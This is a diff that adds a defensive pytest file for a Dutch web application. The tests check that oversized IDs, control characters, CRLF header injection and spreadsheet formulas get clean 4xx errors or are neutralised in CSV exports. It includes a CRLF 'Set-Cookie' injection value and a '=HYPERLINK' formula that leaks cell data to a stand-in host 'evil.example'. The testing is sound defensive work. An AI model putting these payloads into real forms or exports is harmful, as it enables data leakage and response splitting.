@@ -1,0 +1,105 @@
+"""Input an attacker (or an unlucky paste) sends: every one gets a clear 404, 409 or 422, never
+a 500, and nothing that would break a file someone downloads later gets stored."""
+
+import csv
+import io
+
+import pytest
+
+from app.organisations.models import Role
+from tests import factories
+
+HUGE = str(2**63)
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        f"/cycli/{HUGE}",
+        f"/resultaten/{HUGE}/bewerken",
+        f"/api/v1/cycles/{HUGE}",
+        f"/api/v1/steps/{HUGE}",
+        f"/api/v1/cycles/{HUGE}/ambition",
+        "/api/v1/cycles/99999999999999999999999999/results",
+    ],
+)
+def test_ids_beyond_what_the_database_stores_are_not_found(client, url):
+    assert client.get(url).status_code in (404, 422)
+
+
+def test_ids_beyond_64_bits_in_a_body_are_explained(client, session, organisation):
+    cycle = factories.make_cycle(session, organisation)
+    response = client.post(
+        f"/api/v1/cycles/{cycle.id}/activities", json={"name": "Maatjes", "partner_id": 2**63}
+    )
+    assert response.status_code == 422
+    form = client.post(
+        f"/cycli/{cycle.id}/activiteiten",
+        data={"name": "Maatjes", "status": "new", "partner_id": HUGE},
+    )
+    assert form.status_code == 422 and "bestaat niet" in form.text
+    assert 'value="Maatjes"' in form.text
+
+
+@pytest.mark.parametrize("older", ["²", "9" * 20, "-1", "abc"])
+def test_paging_the_changes_with_nonsense_is_explained(client, session, organisation, older):
+    cycle = factories.make_cycle(session, organisation)
+    for url in (f"/themas/{cycle.theme_id}/wijzigingen", "/wijzigingen"):
+        assert client.get(url, params={"ouder-dan": older}).status_code == 422
+
+
+def test_the_same_term_with_letters_beyond_ascii_is_refused_the_second_time(
+    client, session, organisation
+):
+    cycle = factories.make_cycle(session, organisation)
+    url = f"/cycli/{cycle.id}/begrippen"
+    assert client.post(url, data={"term": "Ærø-begrip"}, follow_redirects=False).status_code == 303
+    again = client.post(url, data={"term": "ærø-BEGRIP "})
+    assert again.status_code == 409 and "staat al in de lijst" in again.text
+
+
+@pytest.mark.parametrize(
+    ("name", "message"),
+    [
+        ("   ", "Vul dit veld in."),
+        ("Jeugd\r\nSet-Cookie: x=1", "regeleinden"),
+        ("Jeugd\x00", "onzichtbare tekens"),
+        ("Jeugd\u202egnip", "onzichtbare tekens"),
+    ],
+)
+def test_names_of_only_spaces_or_with_control_characters_are_refused(client, name, message):
+    form = client.post("/themas", data={"name": name})
+    assert form.status_code == 422 and message in form.text
+    api = client.post("/api/v1/themes", json={"name": name})
+    assert api.status_code == 422
+
+
+def test_a_theme_with_any_name_can_export_its_changes(client, session, organisation):
+    theme = client.post("/api/v1/themes", json={"name": "Jeugd 🚀 en gezin"}).json()
+    response = client.get(f"/themas/{theme['id']}/wijzigingen.csv")
+    assert response.status_code == 200
+    disposition = response.headers["content-disposition"]
+    assert "filename*=UTF-8''wijzigingen-jeugd%20%F0%9F%9A%80%20en%20gezin.csv" in disposition
+    assert 'filename="wijzigingen-jeugd-en-gezin.csv"' in disposition
+
+
+def test_formulas_in_exports_stay_text(client_as, session, organisation):
+    cycle = factories.make_cycle(session, organisation)
+    de_kern = factories.make_partner(session, organisation, "De Kern")
+    activity = factories.make_activity(session, cycle, name="Maatjes", partner=de_kern)
+    partner = client_as(Role.PARTNER, partner=de_kern)
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
+    renamed = partner.post(
+        f"/activiteiten/{activity.id}",
+        data={"name": evil, "status": "new", "partner_id": str(de_kern.id), "_versie": "1"},
+    )
+    assert renamed.status_code == 200
+    admin = client_as(Role.ADMIN)
+    rows = list(
+        csv.reader(
+            io.StringIO(admin.get(f"/themas/{cycle.theme_id}/wijzigingen.csv").text), delimiter=";"
+        )
+    )
+    cells = [cell for row in rows for cell in row]
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
+    assert any(cell == "'" + evil for cell in cells)
